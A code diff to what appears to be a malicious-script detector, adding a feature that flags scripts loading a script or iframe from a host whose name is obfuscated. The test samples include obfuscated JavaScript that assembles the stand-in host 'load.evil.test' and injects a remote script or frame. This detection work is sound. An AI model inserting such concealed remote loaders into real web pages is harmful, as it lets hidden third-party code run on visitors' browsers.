@@ -1,12 +1,38 @@
 import type { Facts } from '../facts/facts.ts';
+import { writtenTexts } from '../decoded-code.ts';
+import type { Effect } from '../trace/trace-context.ts';
 import type { Feature, Finder } from './feature.ts';
+import { effects } from './finders.ts';
 import { isPacked } from './packer.ts';
+import { isService } from './services.ts';
 
 /** Code that the script decoded; a packer that only saves bytes does not count. */
 const unpacked: Finder = (facts) =>
   facts.isUnpacked && facts.outer && !isPacked(facts.outer) ? [0] : [];
 
 const readsElements = ({ effects }: Facts): boolean => effects.some(({ kind }) => kind === 'element');
+
+const foreignHost = /^(?:https?:)?\/\/([\w-]+(?:\.[\w-]+)+)/i;
+const framed = /<(?:iframe|script|embed|object)\b[^>]*\s(?:src|data)\s*=\s*["']?((?:https?:)?\/\/[^"'\s>]+)/gi;
+
+/** Addresses of scripts and frames that the script loads. */
+const loadedBy = ({ kind, text, args }: Effect): string[] => {
+  if (kind === 'markup') return [...text.matchAll(framed)].map(([, address = '']) => address);
+  return kind === 'address' && /^<(?:script|iframe|embed|object)>\./.test(text) ? [...args] : [];
+};
+
+/** Loads from hosts that the script does not contain as they are. */
+const hiddenLoads: Finder = (facts) => {
+  const written = writtenTexts(facts.reading, facts.page);
+  return effects((effect) =>
+    loadedBy(effect).some((address) => {
+      const [, host] = foreignHost.exec(address) ?? [];
+      return (
+        host !== undefined && !isService(address) && !written.some((text) => text.includes(host))
+      );
+    }),
+  )(facts);
+};
 
 /** Code that the script decodes itself, with whatever decoder it has. */
 export const unpackedFeatures: readonly Feature[] = [
@@ -22,6 +48,22 @@ export const unpackedFeatures: readonly Feature[] = [
       other: [
         `eval('alert("hello world");' + 'alert("hello again")');`,
         `eval(function (p, a, c, k, e, d) { while (c--) p = p.replace(new RegExp('\\\\b' + c + '\\\\b', 'g'), k[c]); return p; }('0("1 2 1 2 1 2 1 2")', 3, 3, 'alert|hello|world'.split('|'), 0, {}));`,
+      ],
+    },
+  },
+  {
+    id: 'hidden-host-loaded',
+    what: 'Loads a script or frame from a host whose name it hides',
+    points: 70,
+    find: hiddenLoads,
+    samples: {
+      matching: [
+        `var h = ['test', 'evil', 'load.'], s = document.createElement('script'); s.src = '//' + h[2] + h[1] + '.' + h[0] + '/a.js'; document.body.appendChild(s);`,
+        `document.body.innerHTML = '<iframe src="http://' + 'tset.live.daol'.split('').reverse().join('') + '/a"></iframe>';`,
+      ],
+      other: [
+        `var h = 'load.evil.test', s = document.createElement('script'); s.src = '//' + h + '/a.js';`,
+        `var m = new Image(); m.src = '//' + ['a', 'test'].join('.') + '/a.png';`,
       ],
     },
   },
